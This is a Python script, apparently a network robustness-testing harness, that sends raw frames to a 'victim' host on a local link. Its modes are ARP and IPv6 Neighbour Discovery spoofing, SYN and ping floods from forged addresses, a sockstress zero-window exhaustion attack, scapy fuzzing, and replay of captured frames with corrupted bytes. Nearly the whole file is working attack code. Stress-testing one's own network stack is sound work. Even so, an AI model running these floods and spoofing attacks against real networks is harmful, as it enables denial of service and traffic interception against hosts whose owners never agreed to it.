# SPDX-License-Identifier: BSD-2-Clause
"""Attackers that make their own frames: stranger.py KIND INTERFACE OWN VICTIM PORT, until they are ended.

arp-requests   questions for the victim from addresses that nobody has, each with another sender, as fast as it goes
arp-claims     forged announcements: of the victim's own address, and that the honest client's is elsewhere
nd-claims      the same of IPv6: advertisements that override, and solicitations with the stranger's link address
syn, ping      from random addresses of the link's prefix, IPv4 or IPv6, each with a link address of its own
sockstress     connections from sixteen addresses that exist nowhere else, which ask for a long answer and then tell of
               a window of zero for ever
fuzz           scapy's fuzz(): IP, TCP, UDP and ICMP with fields at random, of which half have the victim's ports
mutate         frames of the honest client, with bytes changed, cut, or sent again; half of them with sums made right"""
import random
import select
import socket
import struct
import sys
import time

KIND, INTERFACE, OWN, VICTIM, PORT = *sys.argv[1:5], int(sys.argv[5])
rng = random.Random(7)
raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
raw.bind((INTERFACE, 0))
raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 22)
STRANGER_MAC = b"\x02\x66\x66\x66\x66\x66"


def send(frame):
    try:
        raw.send(frame)
    except OSError:   # the queue of the interface is full
        time.sleep(0.0005)


def address(text):
    return socket.inet_pton(socket.AF_INET6 if ":" in text else socket.AF_INET, text)


def total(data):
    data += b"\0" * (len(data) & 1)
    value = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while value >> 16:
        value = (value & 0xffff) + (value >> 16)
    return ~value & 0xffff


def sum_of(source, protocol, data, to=None):
    """With the pseudo-header of the family that the source belongs to; to the victim, or who is named."""
    return total(source + (to or address(VICTIM)) + struct.pack("!II", len(data), protocol) + data)


def arp(operation, sender_mac, sender, target_mac, target, to=b"\xff" * 6):
    head = to + sender_mac + b"\x08\x06" + struct.pack("!HHBBH", 1, 0x800, 6, 4, operation)
    return head + sender_mac + sender + target_mac + target


def victims_mac():
    """By a question of our own, from an address of our own."""
    asker = address("10.90.0.200")
    for _ in range(50):
        send(arp(1, STRANGER_MAC, asker, b"\0" * 6, address(VICTIM)))
        end = time.monotonic() + 0.2
        while select.select([raw], [], [], max(0, end - time.monotonic()))[0]:
            frame = raw.recv(2048)
            if frame[12:14] == b"\x08\x06" and frame[28:32] == address(VICTIM) and frame[20:22] == b"\0\2":
                return frame[22:28]
    sys.exit("the victim does not answer")


def arp_requests():
    while True:
        mac = b"\x02" + rng.randbytes(5)
        send(arp(1, mac, bytes([10, 90, 0, rng.randrange(3, 255)]), b"\0" * 6, address(VICTIM)))


def arp_claims():
    victim = victims_mac()
    while True:
        send(arp(2, STRANGER_MAC, address(VICTIM), b"\xff" * 6, address(VICTIM)))
        send(arp(1, STRANGER_MAC, address(VICTIM), b"\0" * 6, address(VICTIM)))
        send(arp(2, STRANGER_MAC, address(OWN), victim, address(VICTIM), to=victim))
        time.sleep(0.001)


def ip_packet(victim, source, protocol, payload):
    length = 20 + len(payload)
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, length, 0, 0x4000, 64, protocol, 0, source, address(VICTIM))
    head = head[:10] + struct.pack("!H", total(head)) + head[12:]
    return victim + STRANGER_MAC + b"\x08\x00" + head + payload


def tcp_segment(victim, source, port, seq, ack, flags, window, data=b""):
    seq, ack = seq & 0xffffffff, ack & 0xffffffff
    segment = struct.pack("!HHIIBBHHH", port, PORT, seq, ack, 0x50, flags, window, 0, 0) + data
    value = sum_of(source, 6, segment)
    return ip_packet(victim, source, 6, segment[:16] + struct.pack("!H", value) + segment[18:])


SYN, RST, PSH, ACK = 2, 4, 8, 16


# --- IPv6, and both ---------------------------------------------------------------------------------------------------

def packet6(source, to, protocol, payload, hops=64):
    return struct.pack("!IHBB", 0x60000000, len(payload), protocol, hops) + source + to + payload


def discovery(source, to, body):
    """Neighbour Discovery, whose checksum is still zero in the body."""
    value = sum_of(source, 58, body, to)
    return packet6(source, to, 58, body[:2] + struct.pack("!H", value) + body[4:], 255)


def victims_mac6():
    asker, group = address("fd00:90::200"), address("ff02::1:ff00:2")
    question = struct.pack("!BBHI", 135, 0, 0, 0) + address(VICTIM) + b"\1\1" + STRANGER_MAC
    packet = discovery(asker, group, question)
    for _ in range(50):
        send(b"\x33\x33\xff\0\0\2" + STRANGER_MAC + b"\x86\xdd" + packet)
        end = time.monotonic() + 0.2
        while select.select([raw], [], [], max(0, end - time.monotonic()))[0]:
            frame = raw.recv(2048)
            if frame[12:14] == b"\x86\xdd" and frame[54:55] == b"\x88" and frame[62:78] == address(VICTIM):
                return frame[6:12]
    sys.exit("the victim does not answer")


def nd_claims():
    victim, own = victims_mac6(), address(OWN)
    while True:
        for kind, about, option in ((136, own, 2), (136, address(VICTIM), 2), (135, address(VICTIM), 1)):
            flags = 0x60000000 if kind == 136 else 0
            body = struct.pack("!BBHI", kind, 0, 0, flags) + about + bytes((option, 1)) + STRANGER_MAC
            send(victim + STRANGER_MAC + b"\x86\xdd" + discovery(own, address(VICTIM), body))
        time.sleep(0.001)


def near():
    """An address of the link's prefix, and a link address."""
    mac = b"\x02" + rng.randbytes(5)
    if ":" in VICTIM:
        return mac, address("fd00:90::")[:8] + rng.randbytes(8)
    return mac, bytes([10, 90, 0, rng.randrange(3, 255)])


def frame_of(victim, mac, source, protocol, payload):
    if ":" in VICTIM:
        return victim + mac + b"\x86\xdd" + packet6(source, address(VICTIM), protocol, payload)
    return victim + mac + ip_packet(victim, source, protocol, payload)[12:]


def syn():
    victim = victims_mac6() if ":" in VICTIM else victims_mac()
    while True:
        mac, source = near()
        port, seq = rng.randrange(1024, 65536), rng.getrandbits(32)
        segment = struct.pack("!HHIIBBHHH", port, PORT, seq, 0, 0x50, SYN, 65535, 0, 0)
        segment = segment[:16] + struct.pack("!H", sum_of(source, 6, segment)) + segment[18:]
        send(frame_of(victim, mac, source, 6, segment))


def ping():
    victim = victims_mac6() if ":" in VICTIM else victims_mac()
    while True:
        mac, source = near()
        data = struct.pack("!BBHHH", 128 if ":" in VICTIM else 8, 0, 0, 1, 1) + bytes(56)
        value = sum_of(source, 58, data) if ":" in VICTIM else total(data)
        send(frame_of(victim, mac, source, 58 if ":" in VICTIM else 1, data[:2] + struct.pack("!H", value) + data[4:]))


def sockstress():
    victim = victims_mac()
    ours = [bytes([10, 90, 0, 100 + i]) for i in range(16)]
    seqs, port, next_syn = {}, 1024, 0.0
    request = b"GET /bytes/1000000000 HTTP/1.1\r\nHost: weir\r\n\r\n"
    while True:
        if time.monotonic() >= next_syn:   # a thousand connections a second
            next_syn = time.monotonic() + 0.001
            port = port + 1 if port < 65000 else 1024
            source = ours[port % len(ours)]
            seqs[source, port] = rng.getrandbits(32)
            send(tcp_segment(victim, source, port, seqs[source, port], 0, SYN, 65535))
        if not select.select([raw], [], [], 0.0005)[0]:
            continue
        frame = raw.recv(2048)
        if frame[12:14] == b"\x08\x06" and frame[20:22] == b"\0\1" and frame[38:42] in ours:
            send(arp(2, STRANGER_MAC, frame[38:42], frame[22:28], frame[28:32], to=frame[22:28]))
        if frame[:6] != STRANGER_MAC or frame[12:14] != b"\x08\x00" or frame[23] != 6 or frame[30:34] not in ours:
            continue
        _, to, seq, ack, offset, flags = struct.unpack("!HHIIBB", frame[34:48])
        key, length = (frame[30:34], to), struct.unpack("!H", frame[16:18])[0] - 20 - (offset >> 4) * 4
        if flags & RST:
            seqs.pop(key, None)
        elif flags & SYN and key in seqs:
            seqs[key] = ack
            send(tcp_segment(victim, key[0], to, ack, seq + 1, ACK | PSH, 100, request))
            seqs[key] = ack + len(request)
        elif key in seqs:
            send(tcp_segment(victim, key[0], to, seqs[key], seq + max(0, length), ACK, 0))


def fuzz():
    from scapy.all import ICMP, IP, TCP, UDP, Ether, IPOption, fuzz
    victim = victims_mac()
    ether = bytes(Ether(dst=victim, src=STRANGER_MAC, type=0x800))
    kinds = (lambda: IP(dst=VICTIM, src=OWN) / fuzz(TCP(dport=PORT)),
             lambda: IP(dst=VICTIM) / fuzz(TCP()),
             lambda: IP(dst=VICTIM) / fuzz(UDP(dport=7)),
             lambda: IP(dst=VICTIM) / fuzz(ICMP()),
             lambda: fuzz(IP(dst=VICTIM)) / TCP(dport=PORT, flags="S"),
             lambda: fuzz(IP(dst=VICTIM, options=[IPOption(rng.randbytes(rng.randrange(2, 30)))])) / UDP(dport=9))
    while True:
        try:
            send(ether + bytes(rng.choice(kinds)()))
        except (struct.error, ValueError, TypeError, OverflowError, IndexError, AttributeError):
            continue   # scapy cannot build all that it thinks of


def sums_made_right(frame):
    frame = bytearray(frame)
    head = (frame[14] & 15) * 4
    if head < 20 or len(frame) < 14 + head + 20:
        return bytes(frame)
    frame[24:26] = b"\0\0"
    frame[24:26] = struct.pack("!H", total(bytes(frame[14:14 + head])))
    if frame[23] == 6:
        segment = 14 + head
        frame[segment + 16:segment + 18] = b"\0\0"
        pseudo = bytes(frame[26:34]) + struct.pack("!BBH", 0, 6, len(frame) - segment)
        frame[segment + 16:segment + 18] = struct.pack("!H", total(pseudo + bytes(frame[segment:])))
    return bytes(frame)


def mutate():
    """The capture goes on, so that what is sent again is about connections that are there."""
    victim, kept = victims_mac(), []
    while True:
        while select.select([raw], [], [], 0 if kept else 1)[0]:
            frame = raw.recv(2048)
            if frame[:6] == victim and frame[12:14] == b"\x08\x00" and frame[6:12] != STRANGER_MAC:
                kept = kept[-255:] + [frame]
                break
        if not kept:
            continue
        frame = bytearray(rng.choice(kept[-32:]))
        for _ in range(rng.choice((0, 1, 1, 2, 4, 16))):
            frame[rng.randrange(14, len(frame))] = rng.randrange(256)
        if rng.random() < 0.1:
            frame = frame[:rng.randrange(15, len(frame))]
        frame[6:12] = STRANGER_MAC
        send(sums_made_right(frame) if rng.random() < 0.5 else bytes(frame))


{"arp-requests": arp_requests, "arp-claims": arp_claims, "sockstress": sockstress, "fuzz": fuzz,
 "mutate": mutate, "nd-claims": nd_claims, "syn": syn, "ping": ping}[KIND]()
